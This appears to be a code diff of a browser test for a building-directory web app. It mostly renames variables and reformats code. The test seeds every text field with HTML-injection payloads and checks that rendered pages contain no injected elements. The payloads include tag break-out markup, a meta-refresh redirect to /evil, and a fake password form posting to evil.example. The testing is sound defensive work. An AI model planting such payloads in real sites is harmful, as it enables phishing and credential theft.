@@ -3,32 +3,32 @@ import { afterAll, beforeAll, expect, test } from 'vitest';
 import { type LineKind, publicDetails } from '../src/modules/directory/values.ts';
 import { propertyInput } from '../src/modules/tenancy/schema.ts';
 import { openBrowser, openPage } from '../test/harness/browser.ts';
-import { addTenant, ownBuilding } from '../test/harness/factories.ts';
+import { addTenant, signUpOwner } from '../test/harness/factories.ts';
 import { type Product, startProduct } from '../test/harness/product.ts';
 
 /** Escapes an attribute, a script, a title, a comment and an element, and leaves markers. */
-const breakOut = `"'></script></title></style>--><b id=pwned data-pwned>`;
+const breakOutMarkup = `"'></script></title></style>--><b id=pwned data-pwned>`;
 const redirect = '<meta http-equiv=refresh content="0;url=/evil">';
-const logIn = '<form action="https://evil.example" data-pwned><input name=password></form>';
-const hostile = `${breakOut}${redirect}${logIn}<!--<script>`;
-const hostileUrl = `https://pictures.example/${breakOut.replaceAll(' ', '/')}`;
+const loginMarkup = '<form action="https://evil.example" data-pwned><input name=password></form>';
+const hostile = `${breakOutMarkup}${redirect}${loginMarkup}<!--<script>`;
+const hostileUrl = `https://pictures.example/${breakOutMarkup.replaceAll(' ', '/')}`;
 
 const building = {
   name: hostile,
   address: hostile,
   description: hostile,
   leasingContact: hostile,
-  leasingPhone: breakOut.slice(0, 50),
+  leasingPhone: breakOutMarkup.slice(0, 50),
   amenities: `Garden,${hostile}`,
   imageUrl: hostileUrl,
   logoUrl: hostileUrl,
 };
 const hostileLine: Readonly<Record<LineKind, unknown>> = {
-  text: breakOut.slice(0, 50),
+  text: breakOutMarkup.slice(0, 50),
   names: hostile,
-  short: breakOut.slice(0, 50),
-  way: breakOut.slice(0, 50),
-  phone: breakOut.slice(0, 50),
+  short: breakOutMarkup.slice(0, 50),
+  way: breakOutMarkup.slice(0, 50),
+  phone: breakOutMarkup.slice(0, 50),
   email: `x'y@tenant.example`,
   website: hostileUrl,
   hours: null,
@@ -36,7 +36,7 @@ const hostileLine: Readonly<Record<LineKind, unknown>> = {
 };
 const tenant = {
   companyName: hostile,
-  suiteNumber: breakOut.slice(0, 50),
+  suiteNumber: breakOutMarkup.slice(0, 50),
   ...Object.fromEntries(Object.entries(publicDetails).map(([key, kind]) => [key, hostileLine[kind]])),
 };
 
@@ -46,13 +46,13 @@ let slug: string;
 
 beforeAll(async () => {
   [product, browser] = await Promise.all([startProduct({ oneServer: true, worker: false }), openBrowser()]);
-  const { client, property } = await ownBuilding(product);
+  const { client, property } = await signUpOwner(product);
   slug = property.slug;
   expect(await client.put(`/api/properties/${property.id}`, building)).toMatchObject({ status: 200 });
-  const contacts = [{ name: hostile, phone: breakOut.slice(0, 50), isPrimary: true }];
+  const contacts = [{ name: hostile, phone: breakOutMarkup.slice(0, 50), isPrimary: true }];
   await addTenant(client, property.id, { ...tenant, contacts });
-  for (const urgent of [true, false])
-    await client.post('/api/announcements', { propertyId: property.id, message: hostile, urgent });
+  for (const isUrgent of [true, false])
+    await client.post('/api/announcements', { propertyId: property.id, message: hostile, urgent: isUrgent });
 });
 
 afterAll(async () => {
@@ -105,7 +105,9 @@ for (const [way, options] of ways)
 
 /** Injected elements, attributes, forms, redirects and scripts. */
 async function injectedInto(page: Page): Promise<string[]> {
-  const marks =
+  const injectedSelector =
     '#pwned, [data-pwned], [http-equiv], [action*="evil"], [name=password], body > script:not([type$=json])';
-  return await page.locator(marks).evaluateAll((found) => found.map(({ outerHTML }) => outerHTML.slice(0, 200)));
+  return await page
+    .locator(injectedSelector)
+    .evaluateAll((elements) => elements.map(({ outerHTML }) => outerHTML.slice(0, 200)));
 }
